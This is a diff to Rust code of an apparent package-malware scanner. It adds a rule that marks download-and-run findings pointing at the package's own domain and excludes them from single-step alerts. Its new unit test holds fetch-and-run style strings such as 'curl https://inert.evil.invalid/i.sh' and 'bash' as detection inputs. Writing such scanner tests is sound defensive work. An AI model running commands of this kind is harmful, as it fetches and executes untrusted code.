@@ -26,6 +26,8 @@ struct Link<'a> {
     offsets: Vec<u64>,
     /// Whether it was seen in content that had to be decoded first.
     decoded: bool,
+    /// Whether all that it fetches is at the domain that has the package's own name.
+    own: bool,
     /// Whether it runs by itself: when its file is loaded or the package installed, or because code that does calls it.
     by_itself: bool,
 }
@@ -101,6 +103,7 @@ fn units<'a>(package: &'a Package<'a>, placed: &'a [Placed]) -> Vec<(usize, Vec<
         package.members.iter().enumerate().map(|(i, m)| (m.way.as_slice(), i)).collect();
     let mut units: HashMap<usize, Vec<Link<'a>>> = HashMap::new();
     let called = Called::of(package);
+    let names = own_names(package);
     for (index, member) in package.members.iter().enumerate() {
         let (host, at) = host_of(package, &by_way, index, member);
         for finding in &member.analysis.findings {
@@ -116,6 +119,7 @@ fn units<'a>(package: &'a Package<'a>, placed: &'a [Placed]) -> Vec<(usize, Vec<
                 finding,
                 offsets,
                 decoded: at.is_some(),
+                own: is_from_own_domain(&names, finding),
                 by_itself: called.runs(member, finding),
             });
         }
@@ -126,12 +130,51 @@ fn units<'a>(package: &'a Package<'a>, placed: &'a [Placed]) -> Vec<(usize, Vec<
             finding,
             offsets: Vec::new(),
             decoded: false,
+            own: false,
             by_itself: true,
         });
     }
     let mut units: Vec<_> = units.into_iter().collect();
     units.sort_by_key(|(member, _)| *member);
     units
+}
+
+/// Shortest name of a package that a domain can be told by.
+const TELLING: usize = 5;
+
+/// The names of a package that its makers may have registered as a domain: scope and name, without separators.
+fn own_names(package: &Package<'_>) -> Vec<String> {
+    let name = match (package.npm, package.python) {
+        (Some(npm), _) => npm.name.as_str(),
+        (_, Some(python)) => python.name.as_str(),
+        _ => return Vec::new(),
+    };
+    let parts = name.trim_start_matches('@').split('/');
+    parts.map(crate::package::joined).filter(|part| part.len() >= TELLING).collect()
+}
+
+/// Whether all addresses that a download was followed from are at the domain with one of these names: `opencode-ai` and
+/// `opencode.ai`. An installer of its own program is a matter for a person; nobody else can put anything there.
+fn is_from_own_domain(names: &[String], finding: &Finding) -> bool {
+    if names.is_empty() || !matches!(finding.rule.id, "flow-download-run" | "flow-remote-code") {
+        return false;
+    }
+    let mut hosts = finding
+        .evidence
+        .iter()
+        .flat_map(|e| e.note.split("://").skip(1))
+        .map(|rest| rest.split(['/', '?', '#', ' ', '"', '\'', ':']).next().unwrap_or_default())
+        .peekable();
+    hosts.peek().is_some()
+        && hosts.all(|host| {
+            let labels: Vec<&str> = host.split('.').collect();
+            // The label that is registered: before `.ai`, and before `.co.uk`.
+            let at = labels.len().checked_sub(2).filter(|at| labels.get(*at).is_some_and(|l| l.len() > 3));
+            let label = at.or_else(|| labels.len().checked_sub(3)).and_then(|at| labels.get(at));
+            let whole = |n: &String| label.is_some_and(|l| crate::package::joined(l) == *n);
+            let joined = || labels.len() == 2 && names.contains(&crate::package::joined(host));
+            names.iter().any(whole) || joined()
+        })
 }
 
 /// The functions that the package's own code calls when it is loaded or installed, by name: with the names of the
@@ -229,6 +272,7 @@ fn pick_from<'l, 'a>(chain: &Chain, links: &[&'l Link<'a>]) -> Option<Vec<&'l Li
                 .iter()
                 .copied()
                 .filter(|l| l.finding.confidence >= chain.sure && meets(need, l))
+                .filter(|l| chain.needs.len() > 1 || !l.own)
                 .take(CANDIDATES)
                 .collect()
         })
@@ -334,6 +378,22 @@ pub fn rules() -> impl Iterator<Item = &'static crate::model::Rule> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_domain_is_one_s_own_by_the_label_that_is_registered() {
+        let rule = Rule { id: "flow-remote-code", ..CHAINS[0].rule.clone() };
+        let rule: &'static Rule = Box::leak(Box::new(rule));
+        let own = |notes: &[&str]| {
+            let mut finding = rule.finding(Evidence::note(""));
+            finding.evidence = notes.iter().map(|n| Evidence::note(*n)).collect();
+            is_from_own_domain(&["inertai".to_owned(), "inert".to_owned()], &finding)
+        };
+        assert!(own(&["curl https://inert.invalid/i.sh"]) && own(&["curl https://get.inert.co.uk/i.sh", "bash"]));
+        assert!(own(&["curl https://inert.ai/i.sh"]));
+        assert!(!own(&["curl https://inert.evil.invalid/i.sh"]) && !own(&["curl https://xinert.invalid/i.sh"]));
+        assert!(!own(&["curl https://inert.invalid/i", "wget https://other.invalid/i"]) && !own(&["curl"]));
+    }
+
     use crate::model::technique::known;
     use crate::model::{Confidence, Rule};
 
@@ -350,7 +410,7 @@ mod tests {
             .collect();
         let links: Vec<Link<'_>> = findings
             .iter()
-            .map(|finding| Link { member: 0, finding, offsets: vec![0], decoded: false, by_itself: true })
+            .map(|finding| Link { member: 0, finding, offsets: vec![0], decoded: false, own: false, by_itself: true })
             .collect();
         pick_from(chain, &links.iter().collect::<Vec<_>>()).is_some()
     }
@@ -379,7 +439,8 @@ mod tests {
         };
         let same = |a: &[u64], b: &[u64]| {
             let (a, b) = (finding(a), finding(b));
-            let link = |finding| Link { member: 0, finding, offsets: Vec::new(), decoded: false, by_itself: true };
+            let link =
+                |finding| Link { member: 0, finding, offsets: Vec::new(), decoded: false, own: false, by_itself: true };
             is_same_place(&link(&a), &link(&b))
         };
         assert!(same(&[0], &[4]) && same(&[0, 32], &[33, 2]));
